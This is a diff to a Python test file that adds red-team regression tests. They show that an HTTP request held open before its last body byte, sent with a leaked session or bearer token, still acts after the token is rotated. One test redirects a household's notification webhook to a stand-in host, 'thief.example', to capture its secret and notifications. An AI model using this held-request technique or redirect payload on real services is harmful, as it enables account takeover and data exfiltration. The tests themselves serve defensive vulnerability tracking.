@@ -14,14 +14,15 @@ thief finishes them one by one, when it chooses.
 from __future__ import annotations
 
 import asyncio
+import json
+from dataclasses import replace
 from urllib.parse import urlencode, urlsplit
 
 import pytest
 
 from agent.web.render import SESSION_COOKIE
-from tests.helpers.agent import grant, make_config
-from tests.helpers.web import csrf_of
-from tests.helpers.web import Browserless
+from tests.helpers.agent import delivery_config, grant, make_config
+from tests.helpers.web import Browserless, csrf_of
 
 
 async def sign_in_with_token(running, token: str) -> Browserless:
@@ -32,17 +33,31 @@ async def sign_in_with_token(running, token: str) -> Browserless:
     return browser
 
 
-async def held_form(browser: Browserless, path: str, fields: dict):
-    """A form POST whose headers and all but its last byte are sent now; returns the connection and the byte."""
-    cookie = next(c.value for c in browser.http.cookie_jar if c.key == SESSION_COOKIE)
-    url = urlsplit(browser.base)
+async def held(base: str, method: str, path: str, header: str, content_type: str, body: bytes):
+    """A request whose headers and all but its body's last byte are sent now: the connection and that byte."""
+    url = urlsplit(base)
     reader, writer = await asyncio.open_connection(url.hostname, url.port)
-    form = urlencode(fields).encode()
-    writer.write(f"POST {path} HTTP/1.1\r\nHost: {url.netloc}\r\nCookie: {SESSION_COOKIE}={cookie}\r\n"
-                 "Content-Type: application/x-www-form-urlencoded\r\n"
-                 f"Content-Length: {len(form)}\r\nConnection: close\r\n\r\n".encode() + form[:-1])
+    writer.write(f"{method} {path} HTTP/1.1\r\nHost: {url.netloc}\r\n{header}\r\nContent-Type: {content_type}\r\n"
+                 f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body[:-1])
     await writer.drain()
-    return reader, writer, form[-1:]
+    return reader, writer, body[-1:]
+
+
+async def finish(request) -> str:
+    """The held request's last byte, sent now; the answer's status line."""
+    reader, writer, last = request
+    writer.write(last)
+    await writer.drain()
+    answer = (await reader.read()).decode(errors="replace")
+    writer.close()
+    return answer.splitlines()[0] if answer else ""
+
+
+async def held_form(browser: Browserless, path: str, fields: dict):
+    """A page's form POST with the browser's session, held before its last byte."""
+    cookie = next(c.value for c in browser.http.cookie_jar if c.key == SESSION_COOKIE)
+    return await held(browser.base, "POST", path, f"Cookie: {SESSION_COOKIE}={cookie}",
+                      "application/x-www-form-urlencoded", urlencode(fields).encode())
 
 
 @pytest.mark.xfail(strict=True, reason="red team 8 R8-2: a page's session is checked before its form's body is "
@@ -55,7 +70,7 @@ async def test_a_form_held_open_across_the_rotation_does_not_act(tmp_path, start
     thief = await sign_in_with_token(running, leaked)
     status, html, _ = await thief.get("/ui/me/consents")
     assert status == 200, html
-    held = await held_form(thief, "/ui/me/consents", {"organization": org_id, "service": "aggregates",
+    form = await held_form(thief, "/ui/me/consents", {"organization": org_id, "service": "aggregates",
                                                        "action": "grant", "csrf": csrf_of(html)})
     # the household finds out: the operator rotates its token; it signs in again and says no to the broker
     status, body = await running.call("POST", f"/households/{household_id}/token")
@@ -66,12 +81,31 @@ async def test_a_form_held_open_across_the_rotation_does_not_act(tmp_path, start
     status, _ = await running.call("DELETE", f"/households/me/consents/{org_id}/aggregates", token=fresh)
     assert status in (200, 204)
     await asyncio.sleep(2)  # later: as late as the thief likes (no timeout on a body)
-    reader, writer, last = held
-    writer.write(last)
-    await writer.drain()
-    answer = (await reader.read()).decode(errors="replace")
-    writer.close()
+    answer = await finish(form)
     await thief.close()
     granted = running.agent.registry.consent_state(household_id, org_id, "aggregates")
     # measured on main: 303 and the broker has the household's aggregates again, after rotation and revocation
-    assert not granted, f"the thief's form granted the broker after the rotation: {answer.splitlines()[0]}"
+    assert not granted, f"the thief's form granted the broker after the rotation: {answer}"
+
+
+@pytest.mark.xfail(strict=True, reason="red team 8 R8-2: the API checks the bearer token before the body is read: "
+                   "a request begun with the old token acts after the rotation (agent/api/household_actions.py "
+                   "put_notify reads the body after the caller was identified)")
+async def test_an_api_request_held_open_across_the_rotation_does_not_act(tmp_path, start_agent):
+    """The API's form of it: the thief's `PUT /households/me/notify` with the leaked token, finished after the
+    rotation, sets the household's notification endpoint to the thief's and hands it the webhook's secret: every
+    notification of the household's conditions goes to the thief from then on."""
+    running = await start_agent(replace(make_config(tmp_path), delivery=delivery_config()))
+    household_id, leaked = await running.create_household()
+    request = await held(running.base, "PUT", "/households/me/notify", f"Authorization: Bearer {leaked}",
+                         "application/json",
+                         json.dumps({"url": "http://thief.example:8443/hook", "kind": "webhook"}).encode())
+    status, body = await running.call("POST", f"/households/{household_id}/token")
+    assert status == 200, body
+    fresh = body["token"]
+    assert (await running.call("GET", "/households/me", token=leaked))[0] == 401
+    await asyncio.sleep(1)
+    answer = await finish(request)
+    status, endpoint = await running.call("GET", "/households/me/notify", token=fresh)
+    # measured on main: 200, and the household's endpoint is the thief's (with its secret in the thief's answer)
+    assert status == 404, f"{answer}: the household's notifications now go to {endpoint.get('url')}"
